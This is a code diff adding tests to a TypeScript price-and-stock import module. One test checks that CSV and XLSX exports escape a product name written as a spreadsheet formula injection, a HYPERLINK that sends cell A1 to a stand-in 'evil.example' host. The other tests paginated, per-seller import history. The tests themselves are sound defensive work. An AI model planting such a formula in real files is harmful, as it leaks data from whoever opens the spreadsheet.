@@ -11,6 +11,7 @@ import {
   getImport,
   importErrorReport,
   listImportRows,
+  listImports,
   requestApply,
   revertImport,
   startImport,
@@ -18,7 +19,15 @@ import {
 import type { AuthContext } from '~/server/auth/session.server'
 import type { Db } from '~/server/db/client.server'
 import { prices, productListings, skus, stockMovements, users } from '~/server/db/schema'
-import { createSeller, createSku, createStore, createUser, type SkuRow } from '../factories/create'
+import ExcelJS from 'exceljs'
+import {
+  createProduct,
+  createSeller,
+  createSku,
+  createStore,
+  createUser,
+  type SkuRow,
+} from '../factories/create'
 import { closeAuthTestDatabase, openAuthTestDatabase } from './auth-fixtures'
 import { authOf, errorOf, executableBytes, tempStorage } from './tickets-fixtures'
 
@@ -304,5 +313,63 @@ describe('price and stock import', () => {
         { read: 3, unchanged: 3, update: 0, errors: 0 },
       ])
     }
+  })
+
+  it('a product named like a formula by another seller is defused in the sheet and round-trips', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    const other = await createSeller(db)
+    const product = await createProduct(db, { name: evil, createdBySellerId: other.id })
+    const s = await sellerWithSkus(0)
+    await createSku(db, { store: s.store, product, remainingQuantity: 9 })
+    for (const kind of ['csv', 'xlsx'] as const) {
+      const chunks: Buffer[] = []
+      const out = new Writable({
+        write(chunk, _e, done) {
+          chunks.push(Buffer.from(chunk))
+          done()
+        },
+      })
+      await writeTemplate(db, s.seller.id, kind, out, { at: new Date() })
+      const bytes = Buffer.concat(chunks)
+      if (kind === 'csv') {
+        const text = bytes.toString('utf8')
+        expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)
+        expect(text).not.toMatch(/,"?=HYPERLINK/)
+      } else {
+        const book = new ExcelJS.Workbook()
+        await book.xlsx.load(bytes as unknown as ArrayBuffer)
+        expect(book.worksheets[0]!.getRow(2).getCell(3).value).toBe(`'${evil}`)
+      }
+      const importId = await checked(s.auth, { name: `template.${kind}`, bytes })
+      expect((await getImport(db, s.auth, importId)).counts).toMatchObject({
+        read: 1,
+        unchanged: 1,
+        errors: 0,
+      })
+    }
+  })
+
+  it('the history names who uploaded, the mode and the counts, a page at a time', async () => {
+    const s = await sellerWithSkus(1)
+    await db
+      .update(users)
+      .set({ firstName: 'Sara', lastName: 'Ahmadi' })
+      .where(eq(users.id, s.seller.owner.id))
+    const first = await checked(s.auth, csv([line(s.skus[0]!.sku, 20, 21), line('NOPE', 1, 2)]))
+    await applied(s.auth, first, 'valid_rows')
+    for (let i = 0; i < 11; i++) await checked(s.auth, csv([line(s.skus[0]!.sku, 21, 22)]))
+    const page1 = await listImports(db, s.auth, { page: 1, perPage: 10 })
+    expect(page1.total).toBe(12)
+    expect(page1.imports).toHaveLength(10)
+    const page2 = await listImports(db, s.auth, { page: 2, perPage: 10 })
+    expect(page2.imports.map((i) => i.id).at(-1)).toBe(first)
+    expect(page2.imports.at(-1)).toMatchObject({
+      uploadedBy: 'Sara Ahmadi',
+      mode: 'valid_rows',
+      counts: { read: 2, applied: 1, errors: 1, skipped: 1, stale: 0 },
+    })
+    // Another seller's history is their own.
+    const other = await sellerWithSkus(0)
+    expect((await listImports(db, other.auth, { page: 1, perPage: 10 })).total).toBe(0)
   })
 })
